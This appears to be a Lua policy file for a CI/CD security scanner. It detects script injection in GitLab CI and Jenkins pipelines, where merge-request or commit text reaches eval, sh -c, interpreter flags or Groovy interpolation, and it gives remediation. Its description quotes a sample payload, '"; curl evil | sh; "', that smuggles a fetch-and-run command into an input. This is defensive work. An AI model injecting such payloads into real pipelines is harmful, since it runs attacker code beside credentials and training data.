-- pipeline/script-injection: attacker-controllable text pasted into code
-- before the shell or an interpreter parses it, on GitLab CI and Jenkins
-- (pipeline/template-injection covers GitHub's ${{ }}). The catalog's
-- INJ-EXPR row:
--   GitLab  `$[[ inputs.x ]]` of a free-text input in a script (GitLab
--           substitutes it into the script text), and merge-request /
--           commit controlled variables ($CI_MERGE_REQUEST_TITLE,
--           $CI_COMMIT_MESSAGE, branch names) re-parsed as code: `eval`,
--           `sh -c`, `python -c`, an unquoted heredoc fed to an interpreter.
--   Jenkins GString interpolation of change-request data (env.CHANGE_TITLE,
--           env.CHANGE_BRANCH, env.BRANCH_NAME, ...) or build parameters
--           into `sh "..."`: Groovy pastes them into the script text.

local P = mlgate.pipeline

-- Variables whose text the author of a merge request or commit chooses.
-- arbitrary: any text; structured: a ref name (git allows $ ( ) ; | & ` in
-- branch names, so still injectable, but shorter and without spaces).
local GITLAB_VARS = {
  CI_MERGE_REQUEST_TITLE = "arbitrary", CI_MERGE_REQUEST_DESCRIPTION = "arbitrary",
  CI_COMMIT_MESSAGE = "arbitrary", CI_COMMIT_TITLE = "arbitrary",
  CI_COMMIT_DESCRIPTION = "arbitrary", CI_COMMIT_AUTHOR = "arbitrary",
  CI_COMMIT_TAG_MESSAGE = "arbitrary", CI_MERGE_REQUEST_LABELS = "arbitrary",
  CI_MERGE_REQUEST_SOURCE_BRANCH_NAME = "structured", CI_COMMIT_REF_NAME = "structured",
  CI_COMMIT_BRANCH = "structured", CI_COMMIT_TAG = "structured",
  CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME = "structured",
  CI_MERGE_REQUEST_SOURCE_PROJECT_PATH = "structured",
}

local JENKINS_VARS = {
  CHANGE_TITLE = "arbitrary", CHANGE_AUTHOR_DISPLAY_NAME = "arbitrary",
  CHANGE_AUTHOR = "structured", CHANGE_AUTHOR_EMAIL = "structured",
  CHANGE_BRANCH = "structured", BRANCH_NAME = "structured", CHANGE_FORK = "structured",
  GIT_BRANCH = "structured", TAG_NAME = "structured", GIT_COMMITTER_NAME = "arbitrary",
  GIT_AUTHOR_NAME = "arbitrary",
}

local SEVERITY = {arbitrary = "high", structured = "medium", parameter = "medium"}

local SHELLS = {sh = true, bash = true, zsh = true, dash = true, ksh = true, ash = true}
local INTERPRETERS = {node = "-e", perl = "-e", ruby = "-e", php = "-r", Rscript = "-e",
                      deno = "eval"}

local function base(s) return (s or ""):match("[^/\\]+$") or "" end

local function interpreter_flag(name)
  if SHELLS[name] then return "-c" end
  if name:match("^python[%d.]*$") then return "-c" end
  return INTERPRETERS[name]
end

-- Every $NAME / ${NAME...} of a tainted variable in s: {name, off (0-based)}.
local function tainted_refs(s, vars)
  local out = {}
  local i = 1
  while true do
    local a, b, name = s:find("%${?([%a_][%w_]*)", i)
    if not a then break end
    if vars[name] then out[#out + 1] = {name = name, off = a - 1} end
    i = b + 1
  end
  return out
end

-- Whether the shell expands the `$` at 0-based offset off of a word's
-- source text: not inside single quotes, not escaped.
local function expanded(raw, off)
  local single, double = false, false
  local i = 1
  while i <= off do
    local c = raw:sub(i, i)
    if c == "\\" and not single then
      i = i + 1
    elseif c == "'" and not double then
      single = not single
    elseif c == '"' and not single then
      double = not double
    end
    i = i + 1
  end
  return not single and raw:sub(off, off) ~= "\\"
end

-- Places in a GitLab script where the shell re-parses text as code.
local function code_sinks(script, text)
  local sinks = {}
  for _, cmd in ipairs(script.cmds or {}) do
    local argv = cmd.argv or {}
    local name = argv[1] and base(argv[1].text)
    if name == "eval" then
      for k = 2, #argv do
        sinks[#sinks + 1] = {off = argv[k].offset, len = argv[k].len, what = "eval"}
      end
    elseif name then
      local flag = interpreter_flag(name)
      if flag then
        for k = 2, #argv - 1 do
          if argv[k].text == flag then
            local w = argv[k + 1]
            sinks[#sinks + 1] = {off = w.offset, len = w.len, what = name .. " " .. flag}
            break
          end
        end
        -- A heredoc whose delimiter is not quoted is expanded by the shell
        -- and then read by the interpreter as its program.
        for _, r in ipairs(cmd.redirs or {}) do
          if r.heredoc and r.heredoc_offset and not (r.target and r.target.quoted) then
            sinks[#sinks + 1] = {off = r.heredoc_offset, len = #r.heredoc,
                                 what = name .. " heredoc", heredoc = true}
          end
        end
      end
    end
  end
  return sinks
end

-- spec inputs of the file an expression is in: {name = input}.
local function spec_inputs(m, path)
  local spec = m.spec
  if path then
    spec = nil
    for _, inc in ipairs(m.includes or {}) do
      if inc.file == path then spec = inc.spec end
    end
  end
  local out = {}
  for _, inp in ipairs(spec and spec.inputs or {}) do out[inp.name] = inp end
  return out
end

local function check_gitlab(m, ctx)
  -- 1. $[[ inputs.x ]] substituted into scripts.
  local specs = {}
  for _, e in ipairs(m.exprs or {}) do
    if e.syntax == "gitlab-input" and e.field == "script" and e.input then
      local key = e.path or ""
      specs[key] = specs[key] or spec_inputs(m, e.path)
      local inp = specs[key][e.input]
      local t = inp and inp.type or "string"
      local free = t == "string" and not (inp and inp.regex)
      -- options: GitLab accepts only the listed values; numbers and booleans
      -- cannot carry commands.
      if (t == "string" or t == "array") and not (inp and inp.options) then
        ctx:fail{
          message = ("$[[ %s ]] is pasted into the script before the shell reads it, so "
            .. "whoever sets input '%s' runs commands; pass it through a variable "
            .. "(variables: INPUT: $[[ %s ]]) and use \"$INPUT\" in the script."):format(
            e.text, e.input, e.text),
          path = e.path,
          line = e.line, column = e.col,
          severity = free and "high" or "low",
          confidence = free and "high" or "medium",
          key = ("%s:input:%s:%d"):format(e.route or "", e.input, e.line),
          details = {job = e.job, input = e.input, type = t,
                     restricted = inp and inp.regex and "regex" or nil},
        }
      end
    end
  end
  -- 2. merge-request controlled variables re-parsed as code.
  for step, job in P.steps(m) do
    local run = step.run
    local text = run and run.text or ""
    if text:find("CI_", 1, true) then
      local script = mlgate.shell.parse(text)
      local reported = {}
      for _, s in ipairs(script and code_sinks(script, text) or {}) do
        local piece = text:sub(s.off + 1, s.off + s.len)
        for _, r in ipairs(tainted_refs(piece, GITLAB_VARS)) do
          if s.heredoc or expanded(piece, r.off) then
          local line, col = P.where(run, s.off + r.off)
          local k = line .. ":" .. r.name
          if not reported[k] then
            reported[k] = true
            ctx:fail{
              message = ("$%s is controlled by the author of the merge request or commit and "
                .. "is run as code by %s; pass it as data (a quoted argument or a file), "
                .. "never to eval, -c or an unquoted heredoc."):format(r.name, s.what),
              path = step.path ~= m.path and step.path or nil,
              line = line, column = col,
              severity = SEVERITY[GITLAB_VARS[r.name]],
              key = ("%s:%s:%d"):format(step.route, r.name, line),
              details = {job = job and job.id, step = step.index, variable = r.name,
                         sink = s.what, taint = GITLAB_VARS[r.name]},
            }
          end
          end
        end
      end
    end
  end
end

-- The Jenkins data an interpolated expression reads, and its kind.
local function jenkins_taint(text, params)
  local t = text:gsub("^%s+", "")
  local v = t:match("^env%.([%a_][%w_]*)") or t:match("^env%[%s*['\"]([%w_]+)['\"]")
  if v then return JENKINS_VARS[v] and v, JENKINS_VARS[v] end
  local p = t:match("^params%.([%a_][%w_]*)") or t:match("^params%[%s*['\"]([%w_]+)['\"]")
  if p then
    local kind = params[p]
    if kind == nil or kind == "string" or kind == "text" or kind == "password" then
      return "params." .. p, "parameter"
    end
    return nil
  end
  v = t:match("^([%a_][%w_]*)%s*$") or t:match("^([%a_][%w_]*)%.")
  if v and JENKINS_VARS[v] then return v, JENKINS_VARS[v] end
  return nil
end

local SH_FIELDS = {sh = true, bat = true, powershell = true, pwsh = true}

local function check_jenkins(m, ctx)
  local params = {}
  for _, p in ipairs(m.parameters or {}) do params[p.name] = p.type end
  local seen = {}
  for _, e in ipairs(m.exprs or {}) do
    if e.syntax == "groovy" and SH_FIELDS[e.field] then
      local what, kind = jenkins_taint(e.text, params)
      local k = e.line .. ":" .. (what or "")
      if what and not seen[k] then
        seen[k] = true
        ctx:fail{
          message = ("`%s \"...\"` pastes %s into the script with Groovy interpolation, so "
            .. "%s can run commands on the agent; use a single-quoted script and read it from "
            .. "the environment (withEnv([\"V=${%s}\"]) { %s '... \"$V\"' })."):format(
            e.field, what, kind == "parameter" and "whoever starts the build"
              or "the author of the change", e.text, e.field),
          line = e.line, column = e.col,
          severity = SEVERITY[kind],
          key = ("%s:%s:%d"):format(e.route or "", what, e.line),
          details = {job = e.job, step = e.step, expression = e.text, taint = kind},
        }
      end
    end
  end
end

return mlgate.policy {
  id = "pipeline/script-injection",
  title = "Merge request and build input must not be pasted into GitLab and Jenkins scripts",
  description = [==[
Text that the author of a merge request, a commit or a build chooses can
become code in three ways that no quoting in the script prevents:

- GitLab substitutes `$[[ inputs.x ]]` into the job's script before the
  shell reads it: a string input holding `"; curl evil | sh; "` runs.
- GitLab passes `$CI_MERGE_REQUEST_TITLE`, `$CI_COMMIT_MESSAGE` and branch
  names to the shell as variables, which is safe when used as data, but
  `eval "$CI_COMMIT_MESSAGE"`, `sh -c "... $CI_MERGE_REQUEST_TITLE"`,
  `python -c "print('$CI_COMMIT_TITLE')"` or an unquoted heredoc given to
  an interpreter turn the text back into code.
- Jenkins expands `"${env.CHANGE_TITLE}"`, `"${env.CHANGE_BRANCH}"` and
  `"${params.TAG}"` in a double-quoted Groovy string before `sh` sees the
  script (branch names may hold `$(...)`, `;` and backticks).

The job then runs the attacker's commands next to the pipeline's tokens,
model-registry and cloud credentials, and the training data. Severity is
high for free text (titles, messages, descriptions, free string inputs),
medium for ref names and build parameters, low for inputs restricted by
`options:` or `regex:`.]==],
  remediation = [==[
Treat the value as data. GitLab: bind inputs to variables and quote them;
never eval merge request text:

    variables:
      BRANCH: $[[ inputs.branch ]]
    script:
      - git checkout "$BRANCH"
      - python report.py --title "$CI_MERGE_REQUEST_TITLE"

Jenkins: single-quoted scripts, values through the environment:

    withEnv(["TAG=${params.TAG}"]) {
      sh 'docker build -t "registry.example.com/model:$TAG" .'
    }]==],
  gate = "pipeline",
  severity = "high",
  confidence = "high",
  atlas = {"AML.T0010.001", "AML.T0049"},
  aliases = {"catalog:INJ-EXPR"},
  references = {
    "https://docs.gitlab.com/ci/inputs/#specify-functions-to-manipulate-input-values",
    "https://docs.gitlab.com/ci/variables/predefined_variables/",
    "https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#string-interpolation",
  },
  files = P.files("gitlab", "jenkins"),

  check = function(file, ctx)
    local m = P.load(file.path)
    if not m then return end
    if m.kind == "gitlab-ci" then
      check_gitlab(m, ctx)
    elseif m.kind == "jenkinsfile" then
      check_jenkins(m, ctx)
    end
  end,
}
